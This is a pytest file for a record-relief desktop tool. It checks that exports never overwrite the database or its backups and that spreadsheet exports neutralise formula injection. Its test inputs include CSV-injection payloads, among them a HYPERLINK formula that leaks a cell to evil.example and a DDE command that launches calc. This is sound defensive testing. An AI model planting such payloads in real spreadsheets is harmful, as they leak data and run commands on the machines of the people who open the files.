"""Issue 12 §2-3: no output ever overwrites data, and files people open carry no live formulas.

Every `--out` refuses the live database, its -wal/-shm and its backups even with --force, and an
existing file without --force; outputs are written atomically and created 0600; `backup --out`
leaves the folder's permissions alone. Hostile names (=HYPERLINK, +CMD, @SUM, -2+3, tab/CR-led)
go through every export: people files (.xlsx, or CSV with neutralised cells and a header note)
show them as text; the machine files (DOJ and court updates) keep them exactly."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import stat
from pathlib import Path

import pytest
from dojrows import Conv, Person, write_file
from helpers.cli import reliefdesk
from trustworld import KEY_PASS, World, build_world, copy_world

from desktop.audit.export import read_export
from desktop.cli.main import main
from desktop.demo import DEMO_PASSWORD

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
    "+CMD|' /C calc'!A0",
    "@SUM(A1)",
    "-2+3",
    "\t=1+1",
    "\r=2+2",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def rendered(tmp_path_factory: pytest.TempPathFactory) -> World:
    """A world whose batch is rendered and signed, with hostile names and a rejected row."""
    where = tmp_path_factory.mktemp("outputs")
    w = build_world(where / "w")
    env = {
        "RELIEFDESK_PASSWORD": DEMO_PASSWORD,
        "RELIEFDESK_KEY_PASSPHRASE": KEY_PASS,
        "RELIEFDESK_NEW_PASSWORD": "a long password 1",
    }
    old = {k: os.environ.get(k) for k in env}
    os.environ.update(env)
    try:
        assert (
            main(
                [
                    "--db",
                    str(w.db),
                    "orders",
                    "render",
                    "--batch",
                    str(w.batch),
                    "--out",
                    str(where / "orders"),
                    "--sign",
                    str(w.key),
                    "--as",
                    "judge",
                ]
            )
            == 0
        )
        # A DOJ file with hostile names, one of them on a line that must be rejected.
        doj = where / "hostile.csv"
        write_file(
            doj,
            [
                Person(
                    HOSTILE[0],
                    "19800101",
                    "99900001",
                    [Conv("11357(B) HS-POSSESS MARIJUANA", "M", "20100201")],
                ),
                Person(
                    HOSTILE[1],
                    "19809901",
                    "99900002",
                    [Conv("11357(B) HS-POSSESS MARIJUANA", "M", "20100201")],
                ),
            ],
        )
        # An unreadable date is kept as a warning now (issue 13 §3); a line with an unclosed quote
        # is still rejected, and carries the hostile name in its raw text.
        with doj.open("a", encoding="utf-8") as fh:
            fh.write(f'{HOSTILE[1]},"unclosed quote\n')
        assert main(["--db", str(w.db), "import", str(doj)]) == 3
        # An account whose name starts like a formula: it reaches the audit log's user column.
        assert (
            main(
                ["--db", str(w.db), "users", "add", "@SUM(A1)", "--role", "clerk", "--as", "admin"]
            )
            == 0
        )
        os.environ["RELIEFDESK_PASSWORD"] = "a long password 1"
        assert (
            main(["--db", str(w.db), "review", "defer", str(w.denied[0]), "--as", "@SUM(A1)"]) == 0
        )
    finally:
        for k, v in old.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v
    # Names as record data may carry them (DOJ names arrive as read; the court CSV's AKAs too):
    # give the batch's people and the run's first people the hostile names.
    conn = sqlite3.connect(w.db)
    subjects = [
        r[0]
        for r in conn.execute(
            "SELECT DISTINCT k.subject_id FROM order_counts oc JOIN cases k ON k.id = oc.case_id"
            " ORDER BY 1"
        )
    ]
    assert len(subjects) >= 2
    for i, sid in enumerate(subjects):
        conn.execute("UPDATE subjects SET name = ? WHERE id = ?", (HOSTILE[i % len(HOSTILE)], sid))
    marks = ",".join("?" * len(subjects))
    extra = [
        r[0]
        for r in conn.execute(
            f"SELECT DISTINCT subject_id FROM determinations WHERE subject_id NOT IN ({marks}) "
            "ORDER BY 1 LIMIT 6",
            subjects,
        )
    ]
    for i, sid in enumerate(extra):
        conn.execute("UPDATE subjects SET name = ? WHERE id = ?", (HOSTILE[i % len(HOSTILE)], sid))
    conn.commit()
    conn.close()
    return w


@pytest.fixture
def world(rendered: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> World:
    monkeypatch.setenv("RELIEFDESK_PASSWORD", DEMO_PASSWORD)
    monkeypatch.setenv("RELIEFDESK_KEY_PASSPHRASE", KEY_PASS)
    monkeypatch.delenv("RELIEFDESK_DB", raising=False)
    return copy_world(rendered, tmp_path / "w")


def cli(world: World, *args: str) -> int:
    return reliefdesk(world.db, *args)


# Every command that writes a file the user names: argv with {out} for the path.
COMMANDS = {
    "export doj-update": ["export", "doj-update", "--batch", "{batch}", "--out", "{out}"],
    "export court-update": ["export", "court-update", "--batch", "{batch}", "--out", "{out}"],
    "determinations": ["determinations", "--out", "{out}"],
    "rejected": ["rejected", "--out", "{out}"],
    "report summary": ["report", "summary", "--out", "{out}"],
    "audit export": ["audit", "export", "--out", "{out}", "--format", "csv"],
    "backup": ["backup", "--out", "{out}"],
    "generate": ["generate", "--county", "Kern", "--rows", "50", "--out", "{out}"],
}


def argv(world: World, name: str, out: Path, *extra: str) -> list[str]:
    signed_in = [] if name == "generate" else ["--as", "judge"]
    return [a.format(out=out, batch=world.batch) for a in COMMANDS[name]] + list(extra) + signed_in


def snapshot(world: World) -> dict[str, bytes]:
    conn = sqlite3.connect(world.db)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    return {
        p.name: p.read_bytes()
        for p in world.db.parent.iterdir()
        if p.is_file() and p.name.startswith(world.db.name)
    }


@pytest.mark.parametrize("command", sorted(COMMANDS))
@pytest.mark.parametrize("target", ["database", "-wal", "-shm", "backup"])
def test_no_out_ever_overwrites_the_database_or_a_backup(
    world: World, command: str, target: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli(world, "backup", "--as", "judge") == 0  # a backup beside the database, in backups/
    backup = next((world.db.parent / "backups").glob("*.sqlite3"))
    conn = sqlite3.connect(world.db)  # keeps -wal and -shm in place
    conn.execute("SELECT 1 FROM audit_log").fetchall()
    path = {
        "database": world.db,
        "-wal": Path(f"{world.db}-wal"),
        "-shm": Path(f"{world.db}-shm"),
        "backup": backup,
    }[target]
    assert path.exists()
    before = path.read_bytes() if target != "-shm" else None
    backup_bytes = backup.read_bytes()
    capsys.readouterr()
    for extra in ((), ("--force",)):
        assert cli(world, *argv(world, command, path, *extra)) != 0
        err = capsys.readouterr().err
        assert (
            err.startswith("reliefdesk: ")
            and "Traceback" not in err
            and "Nothing was written" in err
        )
    conn.close()
    if before is not None and target != "-wal":
        assert path.read_bytes() == before
    assert backup.read_bytes() == backup_bytes
    assert cli(world, "audit", "verify", "--as", "judge") == 0  # the database is as it was
    assert not [p for p in world.db.parent.iterdir() if p.name.endswith(".tmp")]


@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_an_existing_file_needs_force_and_outputs_are_private(
    world: World, tmp_path: Path, command: str, capsys: pytest.CaptureFixture[str]
) -> None:
    suffix = {"report summary": ".pdf", "backup": ".sqlite3"}.get(command, ".csv")
    out = tmp_path / "exports" / f"out{suffix}"
    out.parent.mkdir()
    out.write_bytes(b"precious\n")
    assert cli(world, *argv(world, command, out)) == 2
    assert out.read_bytes() == b"precious\n"
    assert "already exists" in capsys.readouterr().err
    assert cli(world, *argv(world, command, out, "--force")) == 0
    assert out.read_bytes() != b"precious\n"
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    fresh = tmp_path / "exports" / f"new{suffix}"
    assert cli(world, *argv(world, command, fresh)) == 0
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o600
    assert sorted(p.name for p in out.parent.iterdir()) == sorted([out.name, fresh.name])


def test_backup_out_leaves_the_folders_permissions_alone(world: World, tmp_path: Path) -> None:
    folder = tmp_path / "shared-drive"
    folder.mkdir()
    folder.chmod(0o755)
    assert cli(world, "backup", "--out", str(folder / "copy.sqlite3"), "--as", "judge") == 0
    assert stat.S_IMODE(folder.stat().st_mode) == 0o755
    assert stat.S_IMODE((folder / "copy.sqlite3").stat().st_mode) == 0o600
    # A database is never overwritten, not even with --force.
    assert (
        cli(world, "backup", "--out", str(folder / "copy.sqlite3"), "--force", "--as", "judge") == 2
    )


def test_render_and_keys_refuse_the_database_and_backups(
    world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli(world, "backup", "--as", "judge") == 0
    backups = world.db.parent / "backups"
    for out in (world.db, backups):
        assert (
            cli(
                world,
                "orders",
                "render",
                "--batch",
                str(world.batch),
                "--out",
                str(out),
                "--sign",
                str(world.key),
                "--as",
                "judge",
            )
            == 2
        )
        assert "Nothing was written" in capsys.readouterr().err
    assert cli(world, "keys", "create", "--name", "X", "--title", "Y", "--out", str(world.db)) == 2
    assert cli(world, "audit", "verify", "--as", "judge") == 0


def _csv_rows(path: Path) -> tuple[str, list[list[str]]]:
    with path.open(encoding="utf-8", newline="") as fh:
        text = fh.read()
    first, rest = text.split("\n", 1)
    while rest.startswith("#"):  # the creation date and destruction notice (issue 18)
        rest = rest.split("\n", 1)[1]
    return first, list(csv.reader(io.StringIO(rest, newline="")))


def _assert_neutral(rows: list[list[str]]) -> list[str]:
    cells = [c for r in rows for c in r]
    live = [
        c for c in cells if c and c[0] in FORMULA_START + ("\uff1d", "\uff0b", "\uff0d", "\uff20")
    ]
    assert not live, f"live formula cells: {live[:3]}"
    return cells


@pytest.mark.parametrize("command", ["determinations", "rejected"])
def test_people_csv_exports_neutralise_hostile_names(
    world: World, tmp_path: Path, command: str
) -> None:
    out = tmp_path / "people.csv"
    assert cli(world, *argv(world, command, out)) == 0
    note, rows = _csv_rows(out)
    assert note.startswith("#") and "formula" in note and "CWE-1236" in note
    cells = _assert_neutral(rows)
    if command == "determinations":
        header = rows[0]
        names = {r[header.index("name")] for r in rows[1:]}
        for name in HOSTILE:
            assert "'" + name in names, name
    else:
        assert any(HOSTILE[1] in c for c in cells)


@pytest.mark.parametrize("command", ["determinations", "rejected"])
def test_people_xlsx_exports_hold_only_text(world: World, tmp_path: Path, command: str) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "people.xlsx"
    assert cli(world, *argv(world, command, out)) == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    ws = load_workbook(out).active
    assert ws.freeze_panes == "A2"
    assert ws["A1"].font.bold
    assert all((ws.column_dimensions[c].width or 0) > 0 for c in "ABC")
    values = []
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type in ("s", "inlineStr"), (cell.coordinate, cell.value)
            values.append(cell.value)
    import zipfile

    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in x or b"<f " in x for x in sheets)  # no formula at all
    if command == "determinations":
        for name in HOSTILE:
            assert name in values, name  # exact, as text: a spreadsheet never runs it
    else:
        assert any(HOSTILE[1] in (v or "") for v in values)


def test_audit_csv_is_neutralised_and_still_verifies(
    world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "audit.csv"
    assert cli(world, "audit", "export", "--out", str(out), "--as", "judge") == 0
    note, rows = _csv_rows(out)
    assert note.startswith("#")
    _assert_neutral(rows)
    assert any(r[2] == "'@SUM(A1)" for r in rows[1:])
    entries = read_export(out)
    assert any(e.user == "@SUM(A1)" for e in entries)
    capsys.readouterr()
    assert cli(world, "audit", "verify", "--against", str(out), "--as", "judge") == 0
    assert "matches" in capsys.readouterr().out


@pytest.mark.parametrize("kind", ["doj-update", "court-update"])
def test_machine_exports_keep_exact_values(world: World, tmp_path: Path, kind: str) -> None:
    out = tmp_path / f"{kind}.csv"
    assert (
        cli(world, "export", kind, "--batch", str(world.batch), "--out", str(out), "--as", "judge")
        == 0
    )
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    column = "NAME" if kind == "doj-update" else "DEFENDANT_NAME"
    names = {r[column] for r in rows}
    assert names & set(HOSTILE), names  # exactly as recorded, no leading '
    assert not any(n.startswith("'") for n in names)


def test_docs_say_which_files_are_for_machines() -> None:
    root = Path(__file__).resolve().parent.parent
    security = (root / "docs" / "security.md").read_text(encoding="utf-8")
    assert "CWE-1236" in security and "xlsx" in security
    fmt = (root / "docs" / "doj-update-format.md").read_text(encoding="utf-8")
    assert "spreadsheet" in fmt.lower() and "import" in fmt.lower()


def test_audit_view_export_goes_through_the_guard(world: World) -> None:
    """The window's audit export (its save dialog asks before replacing) still never writes over
    the database."""
    from desktop.audit.export import export
    from desktop.errors import UserError
    from desktop.store import open_db

    conn = open_db(world.db).conn
    with pytest.raises(UserError):
        export(conn, Path(f"{world.db}-wal"), "jsonl", force=True)
